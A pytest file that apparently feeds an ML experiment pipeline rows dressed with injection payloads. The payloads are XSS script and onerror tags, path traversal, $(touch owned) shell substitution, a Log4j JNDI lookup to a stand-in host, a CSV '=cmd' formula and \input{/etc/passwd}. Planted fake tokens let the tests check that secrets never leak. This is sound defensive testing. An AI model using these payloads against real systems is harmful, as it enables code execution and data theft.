"""Names, texts and ids that would like to be paths, markup or commands, through a whole experiment; and secrets."""

from __future__ import annotations

import itertools
import json
import re
from html.parser import HTMLParser

import numpy as np
import pytest
import yaml

from experiments import read_rows, snapshot, write_lines
from kdlora.deploy.predict import Classifier
from kdlora.evidence.predictions import read_predictions
from tiny import sentiment_rows

pytest_plugins = ["experiment_fixtures"]

LABELS = ("<script>document.title='owned'</script> ", "\x85../../x|`y`\n# \\input{/etc/passwd}")
IDS = (
    "../../../{}",
    '"><img src=x onerror=1>{}',
    "[red]{}[/red]",
    "a|b\n{}",
    "{}\u202e\u2028",
    "=cmd|' /C calc'!A{}",
    "{} ",
)
TEXTS = (
    "</style><script>document.title='owned'</script> {}",
    "![x](http://192.0.2.1/{}.png) | a | b |\n---\n# heading",
    "$(touch owned) `touch owned` ; touch owned {}",
    "\\input{{/etc/passwd}} ${{jndi:ldap://192.0.2.1/{}}}",
    "\u202egnirts desrever {} \ufeff\u200d\U0001f469\u200d\U0001f680 \ud7ff \U0010ffff",
    "é́́́́́́́ 日本語 \x07\x1b[31m {}",
)
SECRETS = {
    "HF_TOKEN": "hf_thisIsASecretThatNobodyMayRead",
    "WANDB_API_KEY": "wandb-secret-0123456789",
    "MLFLOW_TRACKING_PASSWORD": "mlflow-secret-0123456789",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789",
}


def hostile_rows(count: int, seed: int) -> list[dict[str, str]]:
    """Rows of the usual kind, dressed up."""
    return [
        {
            IDENT: IDS[number % len(IDS)].format(f"{seed}-{number}"),
            TEXT: f"{row['text']} {TEXTS[number % len(TEXTS)].format(number)}",
            LABEL: LABELS[row["label"] == "positive"],
        }
        for number, row in enumerate(sentiment_rows(count, seed))
    ]


IDENT, TEXT, LABEL = "../id|<b>", "text<script>", "label`|\n../.."


@pytest.fixture(scope="module")
def hostile(workshop, tmp_path_factory):
    """The folder around a finished experiment on hostile data, which has secrets in its environment."""
    from kdlora.configfile import build_config
    from kdlora.experiment.run import run_experiment

    root = tmp_path_factory.mktemp("hostile")
    files = {
        split: str(write_lines(root / f"{split}.jsonl", hostile_rows(count, seed)))
        for split, count, seed in (("train", 60, 0), ("validation", 24, 1))
    }
    values = workshop.values(
        {
            "task": {"text": TEXT, "label": LABEL},
            "data": files | {"id_column": IDENT},
            "run": {"arms": ["kd-lora"]},
            "export": {"formats": ["onnx"], "benchmark": False},
        }
    )
    with pytest.MonkeyPatch.context() as patch:
        for name, secret in SECRETS.items():
            patch.setenv(name, secret)
        patch.chdir(root)
        result = run_experiment(build_config(values), root / "work" / "out")
    assert not result.failed
    return root, result.layout


class Tags(HTMLParser):
    """Collects the tags and the attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.scripts: list[str] = []

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and self.cdata_elem == "script":
            self.scripts.append(data)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}
        values = [(value or "").lower().strip() for _, value in attributes]
        assert not any(value.startswith(("javascript:", "data:text")) or "192.0.2.1" in value for value in values)


def test_ids_come_through_every_stage(hostile):
    """A prediction under a changed id belongs to another row."""
    root, layout = hostile
    rows = [json.loads(line) for line in (root / "validation.jsonl").read_text().splitlines()]
    predictions = read_predictions(layout.run("kd-lora", 0).predictions)
    assert list(predictions.ids) == [row[IDENT] for row in rows]
    assert set(predictions.label_names) == set(LABELS)
    stored = read_rows_of_logits(layout)
    assert stored == [json.loads(line)[IDENT] for line in (root / "train.jsonl").read_text().splitlines()]


def read_rows_of_logits(layout) -> list[str]:
    import pyarrow.parquet as pq

    return [
        name
        for file in sorted(layout.teacher_logits.glob("*.parquet"))
        for name in pq.read_table(file)["id"].to_pylist()
    ]


def test_nothing_is_written_outside_of_the_experiment(hostile):
    """`../../x` as a label, an id or a column must never become a path."""
    root, layout = hostile
    outside = {name for name in snapshot(root) if not name.startswith("work/out/")}
    assert outside == {"train.jsonl", "validation.jsonl"}
    assert not [path for path in root.rglob("*") if path.name in ("owned", "x") or "|" in path.name]
    assert layout.student.exists()
    assert (layout.onnx / "model.onnx").exists()


def test_the_report_holds_text_and_no_markup_from_outside(hostile):
    """A report is sent to colleagues, who open it."""
    _, layout = hostile
    page = Tags()
    page.feed(layout.report_html.read_text(encoding="utf-8"))
    assert not ["owned" for script in page.scripts if "owned" in script or "192.0.2.1" in script]
    assert not page.tags & {"img", "iframe", "object", "embed", "base", "form", "foreignobject"}
    assert not [name for name in page.attributes if name.startswith("on") or name in ("srcdoc", "srcset")]
    for text in (layout.report_md, layout.student / "README.md"):
        content = text.read_text(encoding="utf-8")
        assert "\n# \\input" not in content
        assert "![x](" not in content
        assert "\n<script>" not in content
    lines = layout.report_md.read_text(encoding="utf-8").splitlines()
    for line, following in itertools.pairwise(lines):
        if line.startswith("|") and following.startswith("|"):  # rows of one table have one number of cells
            assert re.sub(r"\\.", "", line).count("|") == re.sub(r"\\.", "", following).count("|"), (line, following)


def test_the_card_is_one_block_of_metadata_and_valid_markdown_code(hostile):
    """A backtick in a label ends the code early, and what follows is markup."""
    _, layout = hostile
    card = (layout.student / "README.md").read_text(encoding="utf-8")
    _, metadata, body = card.split("---\n", 2)
    assert set(yaml.safe_load(metadata)) >= {"library_name", "pipeline_tag", "tags"}
    assert "`` ../../x|`y` # \\input{/etc/passwd} ``" in body


def test_the_student_answers_with_the_labels_as_they_are(hostile, cli, tmp_path):
    """A label that was changed on its way is another one to the program that reads it."""
    root, layout = hostile
    texts = [json.loads(line)[TEXT] for line in (root / "validation.jsonl").read_text().splitlines()]
    plain, exported = Classifier.load(layout.student), Classifier.load(layout.onnx)
    one, two = plain.predict_logits(texts), exported.predict_logits(texts)
    assert abs(one - two).max() < 1e-3
    np.testing.assert_allclose(one, read_predictions(layout.run("kd-lora", 0).predictions).logits, atol=1e-3)
    shown = cli("predict", layout.student, root / "validation.jsonl", "--id-column", IDENT)
    assert shown.code == 0, shown.err
    answers = [json.loads(line) for line in shown.out.split("\n") if line]
    assert len(answers) == len(texts)
    assert {answer["label"] for answer in answers} <= set(LABELS)
    to = tmp_path / "answers.csv"
    assert cli("predict", layout.onnx, root / "validation.jsonl", "--id-column", IDENT, "--to", to).code == 0
    assert [row["id"] for row in read_rows(to)] == [answer["id"] for answer in answers]


def test_secrets_are_nowhere(hostile):
    """A token in a record is published with the record."""
    root, _ = hostile
    for path in root.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert not [name for name, secret in SECRETS.items() if secret.encode() in content], path
